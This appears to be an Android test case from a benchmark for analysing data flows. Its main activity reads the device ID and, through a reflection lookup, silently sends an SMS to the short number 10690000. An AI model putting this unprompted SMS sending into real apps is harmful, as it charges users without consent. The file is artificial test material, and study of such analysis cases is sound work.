// about       Of all methods the one of a name is looked for, and it takes no text but sends a word.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String id = phone.getDeviceId();
    try {
      for (Method method : Jobs.class.getMethods()) {
        // The number of parameters tells it, too.
        if (method.getName().equals("run") && method.getParameterTypes().length == 0) {
          method.invoke(new Jobs());
        }
      }
    } catch (ReflectiveOperationException e) {
      setTitle("no job for " + id);
    }
  }
}

class Jobs {
  public void run(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  public void run() {
    SmsManager.getDefault().sendTextMessage("10690000", null, "hello", null, null);
  }
}
